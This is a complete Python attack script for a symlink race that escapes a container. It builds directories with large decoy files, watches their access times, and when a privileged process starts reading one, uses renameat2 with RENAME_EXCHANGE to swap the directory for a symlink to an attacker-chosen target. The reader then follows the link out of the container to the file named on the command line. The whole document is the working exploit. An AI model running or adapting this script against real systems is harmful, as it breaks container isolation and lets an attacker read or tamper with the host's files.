"""Watches for somebody who reads its files, and exchanges the directory that is being read with a link: STEAL TARGET NAME.
Six directories hold a large file and a small one called NAME. When the large one's access time moves, the directory becomes
a link to TARGET, so that the reader's next step, to NAME, may lead out of the container."""

import ctypes
import os
import sys
import time

target, name = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
cwd, exchange = -100, 2
os.makedirs("/w/t/links")
os.chdir("/w/t")
directories = [f"d{each}" for each in range(6)]
for each in directories:
    os.mkdir(each)
    with open(f"{each}/{name}", "w") as small:
        small.write("mine\n")
    with open(f"{each}/a0", "wb") as large:
        for _ in range(40):
            large.write(b"x" * (1 << 20))
    os.utime(f"{each}/a0", (1, time.time()))
    os.symlink(target, f"links/{each}")


def swap(each):
    libc.renameat2(cwd, each.encode(), cwd, f"links/{each}".encode(), exchange)


waiting, away = set(directories), {}
print("ready", flush=True)
while True:
    for each in sorted(waiting):
        if os.stat(f"{each}/a0").st_atime > 1:
            for other in list(away):
                swap(other)
                del away[other]
            swap(each)
            away[each] = time.monotonic()
            waiting.discard(each)
    for each, since in list(away.items()):
        if time.monotonic() - since > 0.6:
            swap(each)
            del away[each]
    time.sleep(0.0005)
